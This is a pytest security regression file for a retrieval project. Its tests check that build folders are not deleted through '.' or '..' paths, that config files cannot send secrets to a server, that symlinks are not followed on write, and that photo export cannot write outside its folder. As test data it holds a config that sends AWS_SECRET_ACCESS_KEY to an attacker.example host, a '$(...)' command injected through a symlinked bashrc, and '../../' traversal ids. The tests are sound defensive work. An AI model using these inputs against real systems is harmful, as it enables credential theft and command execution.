"""Folders and files a user or a stranger hands over (issue 40 items 1-4), each attack as the audit ran it: no data
folder deleted, no variable sent to a model server a config file names, no write through a planted link, no file
written outside the folder named for it."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import pytest
from PIL import Image

from glasses_rag.crag_mm import builds as content_mod
from glasses_rag.crag_mm.builds import dataset_paths, ensure_dataset
from glasses_rag.crag_mm.content import BUNDLED, load_content

# ---- 1. no data folder deleted ----------------------------------------------------------------------------------


@pytest.fixture
def quick_build(monkeypatch):
    """Question sets built without rendering (what is built does not matter here, only what is deleted)."""

    def write(c, p):
        for folder in (p.single_turn, p.multi_turn):
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "validation.parquet").write_bytes(b"")
        for f in (p.kg_json, p.web_json, p.questions_json):
            f.write_text("{}")

    monkeypatch.setattr(content_mod, "_write", write)


@pytest.fixture
def project(tmp_path):
    """A project with its data folder (CRAG-MM and its indexes, by docs/data.md), a thesis, and a question-set
    content folder (a copy of the bundled held-out one) with a subfolder: the one the audit's benchmark builds."""
    from benchmarks.hostile_inputs import project as audited_project

    return audited_project(tmp_path / "proj")


def _prepare(data: str, demo_dir: Path):
    from glasses_rag.crag_mm.spec import prepare
    from glasses_rag.evaluation import DataRequest

    return prepare(DataRequest(data=data, task=1, demo_dir=str(demo_dir)))


def test_data_dot_inside_a_content_folder_builds_beside_the_data_never_over_it(project, quick_build, monkeypatch):
    """`--data .` from inside a content folder: the build went to `<data>/''`, the data folder itself, which was
    deleted before the build was swapped in."""
    monkeypatch.chdir(project / "src" / "heldout")
    prepared = _prepare(".", project / "data" / "demo")
    assert (project / "data" / "crag-mm-index.bin").read_text() == "hours of indexing"
    assert prepared.index_dir == project / "data" / "heldout"  # named by the folder's real name


def test_data_dotdot_from_a_subfolder_never_deletes_the_project(project, quick_build, monkeypatch):
    """`--data ..` from a subfolder of a content folder: the build went to `<data>/..`, the project, deleted."""
    monkeypatch.chdir(project / "src" / "heldout" / "sub")
    _prepare("..", project / "data" / "demo")
    assert (project / "thesis.tex").exists() and (project / "data" / "crag-mm-index.bin").exists()
    assert (project / "src" / "heldout" / "questions.yaml").exists()


def test_a_build_never_replaces_a_folder_it_did_not_build(project, quick_build, monkeypatch):
    """distill's `--data ..` built into `Path('data') / '..'` (the working folder: emptied); `--demo-dir .`
    named the working folder; a user's own folder at the build's place was deleted too."""
    c = load_content(BUNDLED / "heldout")
    monkeypatch.chdir(project / "src" / "heldout" / "sub")
    (Path.cwd() / "notes.txt").write_text("mine")
    for root in (Path("data") / "..", Path("."), Path("..")):
        with pytest.raises(ValueError, match="must name a folder of its own"):
            ensure_dataset(c, dataset_paths(root))
    assert (Path.cwd() / "notes.txt").read_text() == "mine"
    mine = project / "data" / "mine"
    mine.mkdir()
    (mine / "results.csv").write_text("a,b")
    with pytest.raises(ValueError, match="not a question set's dataset this project built"):
        ensure_dataset(c, dataset_paths(mine))
    assert (mine / "results.csv").read_text() == "a,b"
    built = ensure_dataset(c, dataset_paths(project / "data" / "heldout"))
    built.manifest.write_text(json.dumps({**json.loads(built.manifest.read_text()), "fingerprint": "old"}))
    (built.root / "stale.txt").write_text("from the old build")
    ensure_dataset(c, built)  # ours, and stale: replaced
    assert not (built.root / "stale.txt").exists() and json.loads(built.manifest.read_text())["fingerprint"] != "old"


def test_a_linked_build_folder_is_not_followed(project, quick_build):
    c = load_content(BUNDLED / "heldout")
    outside = project / "elsewhere"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    (project / "data" / "heldout").symlink_to(outside)
    with pytest.raises(ValueError, match="a link or a file"):
        ensure_dataset(c, dataset_paths(project / "data" / "heldout"))
    assert (outside / "keep.txt").exists()


# ---- 2. no variable to any server ------------------------------------------------------------------------------


def _config(tmp_path: Path, **fields) -> Path:
    path = tmp_path / "model.json"
    path.write_text(json.dumps({"backend": "openai", "model": "m", **fields}))
    return path


@pytest.mark.parametrize("variable", ["AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "HOME"])
def test_a_model_config_file_names_no_variable_but_an_api_key(tmp_path, monkeypatch, variable):
    """A --model-config with `"api_key_env": "AWS_SECRET_ACCESS_KEY"` sent that value as the bearer token to the
    file's base_url (OPENAI_API_KEY too, which the docs say never reaches a model server)."""
    from glasses_rag.models.vlm import model_config_from_options

    monkeypatch.setenv(variable, "s3cr3t")
    path = _config(tmp_path, base_url="http://attacker.example:9/v1", api_key_env=variable)
    with pytest.raises(ValueError, match="is not read from a file"):
        model_config_from_options(None, path)


def test_a_files_api_key_variable_is_sent_with_a_warning_off_this_machine(tmp_path, monkeypatch, caplog):
    from glasses_rag.models.vlm import model_config_from_options

    monkeypatch.setenv("VLLM_API_KEY", "sk-model")
    monkeypatch.setenv("MY_TOKEN", "sk-cli")
    local = model_config_from_options(
        None, _config(tmp_path, base_url="http://127.0.0.1:8000/v1", api_key_env="VLLM_API_KEY")
    )
    assert local.key() == "sk-model" and "not this machine" not in caplog.text
    remote = model_config_from_options(
        None, _config(tmp_path, base_url="https://gpu.example/v1", api_key_env="VLLM_API_KEY")
    )
    assert remote.key() == "sk-model" and "sends the value of VLLM_API_KEY to https://gpu.example/v1" in caplog.text
    cli = model_config_from_options("openai:https://gpu.example/v1#m", None, api_key_env="MY_TOKEN")  # the user's own
    assert cli.key() == "sk-cli"


# ---- 3. no write through a planted link ------------------------------------------------------------------------


def _piece(text: str) -> dict:
    from glasses_rag.core.sent import piece_hash

    piece = {"role": "user", "content": text}
    return {piece_hash(piece): piece}


def test_a_linked_pieces_file_is_never_appended_to(tmp_path):
    """A resumed run appended its prompts to requests/pieces.jsonl with O_APPEND|O_CREAT, no O_NOFOLLOW: replaced by
    a link to a shell start-up file, with a question holding `$(...)`, sourcing that file ran the command."""
    from traces.requests import write_pieces

    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# mine\n")
    run = tmp_path / "run"
    (run / "requests").mkdir(parents=True)
    (run / "requests" / "pieces.jsonl").symlink_to(bashrc)
    with pytest.raises(ValueError, match="symbolic link"):
        write_pieces(run, _piece(f"what is $(touch {tmp_path / 'pwned'})?"))
    assert bashrc.read_text() == "# mine\n"
    folder = tmp_path / "dotfiles"
    folder.mkdir()
    other = tmp_path / "run2"
    other.mkdir()
    (other / "requests").symlink_to(folder)
    with pytest.raises(ValueError, match="symbolic link"):
        write_pieces(other, _piece("q"))
    assert not any(folder.iterdir())


def test_a_run_folder_with_linked_requests_is_refused_before_the_run(tmp_path, capsys):
    from glasses_rag.frontends.run import main

    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# mine\n")
    run = tmp_path / "runs" / "r"
    (run / "requests").mkdir(parents=True)
    (run / "requests" / "pieces.jsonl").symlink_to(bashrc)
    argv = ["--task", "1", "--out", str(tmp_path / "runs"), "--run-id", "r", "--limit", "1", "--no-progress"]
    assert main([*argv, "--judge", "rule", "--no-plot"]) == 2
    err = capsys.readouterr().err
    assert "pieces.jsonl is a symbolic link" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert bashrc.read_text() == "# mine\n"


def test_an_atomic_write_replaces_a_link_and_never_follows_it(tmp_path):
    from glasses_rag.core.files import write_atomic

    target = tmp_path / "target"
    target.write_text("keep")
    os.chmod(target, 0o600)
    (tmp_path / "trace.json").symlink_to(target)
    write_atomic(tmp_path / "trace.json", "{}")
    assert target.read_text() == "keep" and not (tmp_path / "trace.json").is_symlink()


# ---- 4. no write outside the named folders ----------------------------------------------------------------------


def _dataset(folder: Path, session_ids: list[str]) -> Path:
    from datasets import Dataset

    from glasses_rag.crag_mm.builds import _features, quiet_datasets

    buf = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 10, 10)).save(buf, format="JPEG")
    rows = [
        {
            "session_id": sid,
            "image": {"bytes": buf.getvalue(), "path": None},
            "image_url": "",
            "turns": {
                "interaction_id": [f"{sid}-t0"],
                "domain": [0],
                "query_category": [0],
                "dynamism": [0],
                "query": ["what is this?"],
                "image_quality": [0],
            },
            "answers": {"interaction_id": [f"{sid}-t0"], "ans_full": ["x"]},
        }
        for sid in session_ids
    ]
    folder.mkdir(parents=True)
    with quiet_datasets():
        Dataset.from_list(rows, features=_features()).to_parquet(str(folder / "validation.parquet"))
    return folder


def test_export_writes_photos_inside_the_image_dir_only(tmp_path, capsys):
    """`export --images --image-dir D --images-from S` wrote `D / f"{session_id}.jpg"`: ids `../../x` and `/tmp/x`
    escaped D, and a link planted in D was written through."""
    from glasses_rag.training.export import main

    image_dir = tmp_path / "a" / "b" / "photos"
    image_dir.mkdir(parents=True)
    victim = tmp_path / "victim.jpg"
    victim.write_text("keep")
    (image_dir / "linked.jpg").symlink_to(victim)
    ids = ["../../escaped", str(tmp_path / "absolute"), "ok", "linked"]
    data = _dataset(tmp_path / "ds", ids)
    run = tmp_path / "run"
    run.mkdir()
    argv = ["--run", str(run), "--keep", "all", "--images", "--image-dir", str(image_dir), "--images-from", str(data)]
    assert main([*argv, "--out", str(tmp_path / "sft.jsonl")]) == 0
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*.jpg") if p.is_file() and not p.is_symlink())
    assert written == [Path("a/b/photos/ok.jpg"), Path("victim.jpg")] and victim.read_text() == "keep"
    err = capsys.readouterr().err
    assert "'../../escaped'" in err and "absolute" in err and "linked.jpg is a symbolic link" in err


def test_export_reads_only_the_photos_inside_the_image_dir(tmp_path):
    """A `<session>.jpg` in --image-dir that links to a file elsewhere was read (p.resolve()) and its pixels put
    in the training examples."""
    from test_training_export import _run

    from glasses_rag.training.export import main

    run, _ = _run(tmp_path, ["SpaceX"], ["correct"])
    photos = tmp_path / "photos"
    photos.mkdir()
    Image.new("RGB", (64, 48), (1, 2, 3)).save(tmp_path / "private.jpg")
    (photos / "s0.jpg").symlink_to(tmp_path / "private.jpg")
    out = tmp_path / "sft.jsonl"
    assert main(["--run", str(run), "--images", "--image-dir", str(photos), "--out", str(out)]) == 0
    examples = [json.loads(line) for line in out.read_text().splitlines()]
    assert examples and not any(e.get("images") for e in examples)
